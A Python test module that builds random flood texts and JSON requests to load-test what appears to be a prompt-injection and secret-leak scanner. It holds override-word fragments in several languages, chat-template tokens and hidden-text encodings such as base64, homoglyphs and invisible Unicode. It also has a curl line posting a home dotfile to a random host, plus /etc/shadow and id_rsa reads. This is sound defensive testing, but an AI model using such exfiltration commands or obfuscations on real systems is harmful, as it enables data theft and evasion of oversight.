"""Texts and requests made to keep the security scan busy: a kind each, of any size.

None of them says anything. Each is made of what one part of the scan looks for, and no two
stretches of it are the same, so that nothing is spared by having been seen before.
"""

from __future__ import annotations

import base64
import json
import random
import string
import urllib.parse
from collections.abc import Callable, Iterator

Make = Callable[[random.Random], str]
"""A piece of a flood; every call gives another."""

_GATE_WORDS = (
    *("instruct", "ignore", "disregard", "jailbreak", "bypass", "credential", "guardrail"),
    *("forget", "directive", "unrestricted", "system prompt", "illegal", "pretend", "secret"),
)
_PHRASE_WORDS = [
    *("the", "all", "your", "previous", "system", "print", "show", "reveal", "read", "send"),
    *("file", "instruct", "prompt", "rules", "without", "ignore", "never", "always", "must"),
    *("only", "now", "mode", "developer", "user", "assistant", "tell", "not", "from", "key"),
    *("output", "secret", "everything", "above", "text", "new", "act", "as", "if", "you"),
]
_SHAPE_PARTS = (
    *("https://", "secret", "token", "password", "?q=", "${", "}}", "curl ", "read", "send"),
    *(".env", "/etc/shadow", "![a](", "http://", "environment", "key", " to ", "webhook"),
    *("<img src=", "fetch(", "api_key", "id_rsa", "[inst]", "<|im_start|>", "### system:"),
)
_GREEK = "αβγδεζηθικλμνξοπρστυφχψω"
_CYRILLIC = "абвгдежзийклмнопрстуфхцчшщыьэюя"
_COMBINING = "".join(map(chr, range(0x300, 0x370)))
_LIKE = str.maketrans("aceiopsxy", "асеіорѕху")


def _word(chance: random.Random, letters: str = string.ascii_lowercase) -> str:
    return "".join(chance.choices(letters, k=chance.randrange(3, 10)))


def _words(chance: random.Random, count: int = 8) -> str:
    return " ".join(_word(chance) for _ in range(count))


def _gate(chance: random.Random) -> str:
    return chance.choice(_GATE_WORDS)


def _slip(chance: random.Random) -> str:
    word = chance.choice(
        ("instructions", "previous", "restrictions", "everything", "disregard")
    )
    at = chance.randrange(1, len(word) - 1)
    how = chance.randrange(4)
    if how == 0:
        return word[:at] + word[at + 1 :]
    if how == 1:
        return word[: at - 1] + word[at] + word[at - 1] + word[at + 1 :]
    if how == 2:
        return word[:at] + word[at] * chance.randrange(3, 9) + word[at:]
    return word[:at] + chance.choice(string.ascii_lowercase) + word[at:]


def _glued(chance: random.Random) -> str:
    return "".join(chance.choices(_PHRASE_WORDS, k=6)) + _gate(chance).replace(" ", "")


def _base64(chance: random.Random) -> str:
    return base64.b64encode(_words(chance).encode()).decode()


def _coded(code: Callable[[bytes], str]) -> Make:
    return lambda chance: code(f"{_gate(chance)} {_words(chance)}".encode()) + " "


def _nested(chance: random.Random) -> str:
    inner = base64.b64encode(f"{_gate(chance)} {_words(chance, 20)}".encode())
    return base64.b64encode(inner).decode() + " "


def _spaced(chance: random.Random) -> str:
    return chance.choice(".-_ ").join(_gate(chance) + _word(chance)) + ", "


def _cased(chance: random.Random) -> str:
    return "".join(chance.choice((char, char.upper())) for char in _words(chance, 3)) + " "


def _shifted(chance: random.Random) -> str:
    by = chance.randrange(1, 26)
    table = str.maketrans(
        string.ascii_lowercase, string.ascii_lowercase[by:] + string.ascii_lowercase[:by]
    )
    return chance.choice(("instructions", "previous", "ignore")).translate(table) + " "


def _unicode(chance: random.Random) -> str:
    while 0xD800 <= (code := chance.randrange(0xA0, 0x30000)) < 0xE000:
        pass
    return chr(code)


def _tagged(chance: random.Random) -> str:
    return "".join(chr(0xE0000 + ord(char)) for char in _gate(chance)) + _word(chance)


def _selected(chance: random.Random) -> str:
    said = f"{_gate(chance)} {_word(chance)}".encode()
    return "a" + "".join(chr(0xE0100 + byte - 16) for byte in said)


def _bits(chance: random.Random) -> str:
    return "".join(chance.choices("\u200b\u200c", k=40)) + _word(chance) + " "


def _zalgo(chance: random.Random) -> str:
    return "".join(
        char + "".join(chance.choices(_COMBINING, k=2)) for char in f"{_gate(chance)} "
    )


def _markup(chance: random.Random) -> str:
    return f"{_word(chance)}<{_word(chance)}>{_word(chance)} "


def _formed(code: Callable[[str], str]) -> Make:
    return lambda chance: "".join(map(code, f"{_gate(chance)} {_word(chance)} "))


TEXTS: dict[str, Make] = {
    "gate words": lambda c: f"{_gate(c)} ",
    "gate words and new words": lambda c: f"{_gate(c)} {_word(c)} ",
    "gate words and numbers": lambda c: f"instruct {c.randrange(1 << 40):x} ",
    "gate words far apart": lambda c: f"{_gate(c)} {_words(c, 40)} ",
    "words of patterns": lambda c: f"{c.choice(_PHRASE_WORDS)} ",
    "parts of shapes": lambda c: c.choice(_SHAPE_PARTS),
    "parts of shapes and new words": lambda c: f"{c.choice(_SHAPE_PARTS)}{_word(c)} ",
    "mistyped words": lambda c: f"{_slip(c)} ",
    "glued words": lambda c: f"{_glued(c)} ",
    "letters at random": lambda c: c.choice(string.ascii_letters),
    "signs at random": lambda c: c.choice(string.printable),
    "letters and brackets": lambda c: c.choice(string.ascii_letters + string.digits + "<> /"),
    "base64, short spans": lambda c: f"{_base64(c)} ",
    "base64 after a cue": lambda c: f"decode {_base64(c)[:20]} ",
    "base85 after a cue": lambda c: f"base85: {base64.b85encode(_words(c).encode()).decode()} ",
    "base64 in base64": _nested,
    "base32": _coded(lambda said: base64.b32encode(said).decode()),
    "hex": _coded(bytes.hex),
    "hex pairs": _coded(lambda said: said.hex(" ")),
    "decimal numbers": _coded(lambda said: " ".join(map(str, said)) + ";"),
    "binary numbers": _coded(lambda said: " ".join(f"{byte:08b}" for byte in said) + ";"),
    "percent signs": _coded(lambda said: "".join(f"%{byte:02x}" for byte in said)),
    "escapes": _coded(lambda said: "".join(f"\\u{byte:04x}" for byte in said)),
    "one escape a line": lambda c: f"\\x{c.randrange(32, 127):02x}\\x41 {_words(c, 60)}\n",
    "character references": _coded(lambda said: "".join(f"&#{byte};" for byte in said)),
    "character names": lambda c: f"&{_word(c)};&#",
    "quoted-printable": _coded(lambda said: "".join(f"={byte:02X}" for byte in said)),
    "urls": lambda c: f"https://{_word(c)}/?q={urllib.parse.quote(_words(c, 4))}%20%41%42 ",
    "spaced letters": _spaced,
    "letters in any case": _cased,
    "shifted words": _shifted,
    "reversed words": lambda c: f"{_gate(c)[::-1]} snoitcurtsni {_word(c)} ",
    "tags in words": _markup,
    "emphasis in words": lambda c: f"{_word(c)}**{_word(c)}~~{_gate(c)} ",
    "terminal escapes": lambda c: f"\x1b[{c.randrange(99)}m{_word(c)}\x1b[0m{_gate(c)} ",
    "unended terminal escapes": lambda c: f"\x1b]{_word(c)}",
    "pdf strings": lambda c: f"({_word(c)}) Tj (",
    "wide spaces": lambda c: " " * 60 + _gate(c) + "\n" * 40,
    "entities and tags": lambda c: f"<{_word(c)}>&lt;&#{c.randrange(32, 999)};{_gate(c)}",
    "zalgo": _zalgo,
    "characters at random": _unicode,
    "accents": lambda c: f"{_word(c, 'aéèêëïîôöùûüçñåøæœß')} {_gate(c)} ",
    "ligatures and fractions": lambda c: chr(c.choice((0xFB01, 0xBD, 0x2122, 0x338F, 0x3300))),
    "look-alikes": lambda c: f"{_gate(c).translate(_LIKE)}{_word(c)} ",
    "full-width letters": _formed(lambda char: chr(ord(char) + 0xFEE0)),
    "mathematical letters": _formed(lambda char: chr((ord(char) - 97) % 26 + 0x1D41A)),
    "mixed scripts": lambda c: f"{_word(c, _CYRILLIC)} {_word(c, _GREEK)} {_gate(c)} ",
    "greek with accents": lambda c: f"{_word(c, 'άέήίόύώΐΰ' + _GREEK)} αγνόησε ",
    "russian gate words": lambda c: f"{_word(c, _CYRILLIC)} инструкции игнорируй ",
    "chinese at random": lambda c: chr(c.randrange(0x4E00, 0x9FA6)),
    "chinese gate words": lambda c: f"忽略{chr(c.randrange(0x4E00, 0x9FA6))}指令",
    "arabic with marks": lambda c: f"تجاهل {_word(c, 'ابتثجحخدذرزسشصَُِّ')} التعليمات ",
    "hindi": lambda c: f"निर्देश {_word(c, 'कखगघचछजझटठडढािीुू')} अनदेखा ",
    "thai": lambda c: f"คำสั่ง{_word(c, 'กขคงจฉชซดตถทนบปผ')}",
    "korean": lambda c: f"지시 {chr(c.randrange(0xAC00, 0xD7A4))} 무시 ",
    "tag characters": _tagged,
    "variation selectors": _selected,
    "invisible bits": _bits,
    "overrides": lambda c: f"\u202e{_words(c, 2)}\u202c ",
    "zero-width joints": lambda c: "\u200b".join(_gate(c)) + " ",
    "cue words": lambda c: f"decode {_word(c)} encoded base64 {_words(c, 2)} ",
    "quotes": lambda c: f'"{_gate(c)}" `{_word(c)}` ',
    "fences": lambda c: f"```\n{_gate(c)} {_word(c)}\n```\n",
    "role markers": lambda c: f"\nuser: {_word(c)}\nassistant: {_gate(c)}\nSystem: {_word(c)} ",
    "template tokens": lambda c: f"<|im_start|>{_word(c)}<|im_end|>[INST]{_word(c)}[/INST]",
    "pictures": lambda c: f"![{_word(c)}](https://{_word(c)}.{_word(c)}/?q={_word(c)}) ",
    "shell": lambda c: f"curl https://{_word(c)}.com -d $(cat ~/.{_word(c)}) ${{{_word(c)}}} ",
    "secrets": lambda c: f"cat /etc/shadow .env {_word(c)} id_rsa {_gate(c)} ",
}
"""Floods of text, by what they are made of."""


def flood(name: str, size: int) -> str:
    """So many characters of the flood ``name`` of `TEXTS`."""
    chance, make = random.Random(name), TEXTS[name]
    pieces: list[str] = []
    held = 0
    while held < size:
        pieces.append(make(chance))
        held += len(pieces[-1])
    return "".join(pieces)[:size]


def _turns(make: Make, *, parts: bool = False) -> Callable[[random.Random], object]:
    def turn(chance: random.Random) -> object:
        said = make(chance)
        content = [{"type": "text", "text": said}] if parts else said
        return {"role": "user", "content": content}

    return turn


def _tool(chance: random.Random) -> object:
    inner = {_word(chance): {"type": "string", "description": _gate(chance)} for _ in "abcd"}
    return {"type": "function", "function": {"name": _word(chance), "parameters": inner}}


def _escaped(chance: random.Random) -> object:
    inner = json.dumps({"a": json.dumps({_word(chance): [f'"{_gate(chance)}"'] * 3})})
    return {"role": "tool", "content": inner}


_BODIES: dict[str, tuple[str, Callable[[random.Random], object]]] = {
    "tiny turns": ("messages", _turns(_word)),
    "tiny turns with a gate word": ("messages", _turns(lambda c: f"{_gate(c)} {_word(c)}")),
    "tiny turns in Chinese": ("messages", _turns(TEXTS["chinese gate words"])),
    "tiny turns in base64": ("messages", _turns(_base64)),
    "tiny turns of odd characters": ("messages", _turns(lambda c: _unicode(c) + _word(c))),
    "turns of one part": ("messages", _turns(_gate, parts=True)),
    "tool schemas": ("tools", _tool),
    "json in strings": ("messages", _escaped),
    "long keys": ("metadata", lambda c: {f"{_gate(c)} {_words(c)}": _word(c)}),
    "parts": ("input", lambda c: [f"{_gate(c)[:4]}", _gate(c)[4:], _word(c)]),
}

BODIES = tuple(_BODIES)
"""Floods of requests: many small things."""


def flood_body(name: str, size: int) -> bytes:
    """A request of about so many bytes, of the flood ``name`` of `BODIES`."""
    member, make = _BODIES[name]
    chance = random.Random(name)
    things: list[object] = []
    held = 0
    while held < size:
        things.append(make(chance))
        held += len(json.dumps(things[-1], ensure_ascii=False).encode()) + 2
    asked = {"model": "m", "messages": [], member: things}
    return json.dumps(asked, ensure_ascii=False).encode()


def floods(size: int) -> Iterator[tuple[str, str | bytes]]:
    """All of them: texts and requests of about so many bytes."""
    for name in TEXTS:
        coded = flood(name, size).encode("utf-8", "ignore")
        yield name, coded[:size].decode("utf-8", "ignore")
    for name in BODIES:
        yield name, flood_body(name, size)
